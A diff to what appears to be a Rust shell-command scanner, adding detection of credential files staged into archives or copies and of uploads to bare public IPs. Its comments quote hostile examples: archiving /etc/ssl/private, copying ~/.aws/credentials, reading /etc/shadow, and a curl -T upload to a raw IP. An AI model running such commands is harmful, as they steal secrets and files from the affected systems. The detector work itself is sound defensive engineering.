@@ -1490,6 +1490,16 @@ fn internal_host(host: &str) -> bool {
 }
 
 /// The first URL-ish argument of a downloader.
+/// Whether `url`'s host is a public IPv4 address written as such.
+fn public_address(url: Option<&str>) -> bool {
+    let Some(u) = url else { return false };
+    let rest = u.split_once("://").map_or(u, |(_, r)| r);
+    let host_port = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host = host_port.rsplit('@').next().unwrap_or(host_port).split(':').next().unwrap_or("");
+    host.parse::<std::net::Ipv4Addr>()
+        .is_ok_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified() || ip.is_documentation()))
+}
+
 fn url_of(c: &Cmd) -> Option<String> {
     c.arg_texts().find(|t| super::has(t, "://") || (!t.starts_with('-') && t.contains('.') && t.contains('/'))).map(str::to_owned)
 }
@@ -1702,6 +1712,7 @@ const SENSITIVE: &[&str] = &[
     ".azure/",
     "login data",
     "/etc/ssh/ssh_host",
+    "/etc/ssl/private",
 ];
 
 /// Whether `p` names a credential or account file.
@@ -1719,6 +1730,42 @@ fn sensitive(p: &str) -> bool {
         || b == ".aws"
         || b == ".gnupg"
         || b == ".kube"
+}
+
+/// Files the program writes from credential or account files: an archive
+/// (`tar czf /tmp/h.tgz /etc/ssl/private`, `zip -r o.zip ~/.ssh`), a copy
+/// (`cp ~/.aws/credentials /tmp/c`) or a redirected read (`cat /etc/shadow
+/// > /tmp/s`). Uploading one is uploading them.
+fn staged_secrets(cmds: &[Cmd]) -> Vec<String> {
+    let mut staged = Vec::new();
+    for c in cmds.iter().take(256) {
+        let args: Vec<&str> = c.arg_texts().collect();
+        let output: Option<&str> = match c.name() {
+            "tar" | "bsdtar" => {
+                // The archive follows `-f`, `--file` or a bundle ending in
+                // `f` (`czf OUT`, `-cvzf OUT`), or is glued (`--file=OUT`).
+                let bundle = |a: &str| {
+                    let b = a.strip_prefix('-').unwrap_or(a);
+                    !a.starts_with("--") && b.ends_with('f') && b.bytes().all(|x| x.is_ascii_alphabetic()) && b.len() <= 8
+                };
+                args.iter()
+                    .position(|a| *a == "--file" || bundle(a))
+                    .and_then(|i| args.get(i + 1).copied())
+                    .or_else(|| args.iter().find_map(|a| a.strip_prefix("--file=")))
+            }
+            "zip" | "7z" | "7za" | "rar" => args.iter().filter(|a| !a.starts_with('-') && !matches!(**a, "a" | "u")).copied().next(),
+            "cp" | "rsync" | "scp" if args.iter().filter(|a| !a.starts_with('-')).count() >= 2 => {
+                args.iter().rev().find(|a| !a.starts_with('-')).copied()
+            }
+            "cat" | "base64" | "gzip" | "xxd" | "openssl" => c.redirs.iter().find(|(op, _)| op.starts_with('>')).map(|(_, t)| t.as_str()),
+            _ => None,
+        };
+        let Some(output) = output else { continue };
+        if args.iter().any(|a| *a != output && sensitive(a)) {
+            staged.push(output.trim_matches(['"', '\'']).to_owned());
+        }
+    }
+    staged
 }
 
 /// Words of a code string that show a socket wired to a shell.
@@ -2019,6 +2066,7 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
             downloads.push((base(u.split(['?', '#']).next().unwrap_or("")).to_owned(), risk));
         }
     }
+    let staged = staged_secrets(cmds);
     for (idx, c) in cmds.iter().enumerate() {
         let n = c.name().to_owned();
         if !downloads.is_empty() {
@@ -2393,8 +2441,21 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                 let v = if data_opt { Some(*a) } else { inline };
                 if let Some(v) = v {
                     let file = v.rsplit('@').next().unwrap_or(v);
-                    if sensitive(file) || (matches!(prev, "-T" | "--upload-file" | "--post-file") && sensitive(v)) {
+                    if sensitive(file)
+                        || (matches!(prev, "-T" | "--upload-file" | "--post-file") && sensitive(v))
+                        || staged.iter().any(|s| s == file)
+                    {
                         out.push(Confidence::High, "shell.exfiltration", at);
+                    } else if (matches!(prev, "-T" | "--upload-file" | "--post-file" | "--body-file")
+                        || inline.is_some()
+                        || v.contains('@'))
+                        && public_address(url_of(c).as_deref())
+                    {
+                        // A file sent to a bare public address (`curl -T {}
+                        // http://45.9.148.110/up/` under `find -exec`): no
+                        // service anyone names; every file found goes too.
+                        let every_found = file == "{}";
+                        out.push(if every_found { Confidence::High } else { Confidence::Medium }, "shell.exfiltration", at);
                     }
                     if (v == "@-" || file == "-") && feeds.iter().any(|f| matches!(f.name(), "env" | "printenv" | "set")) {
                         out.push(Confidence::High, "shell.exfiltration", at);
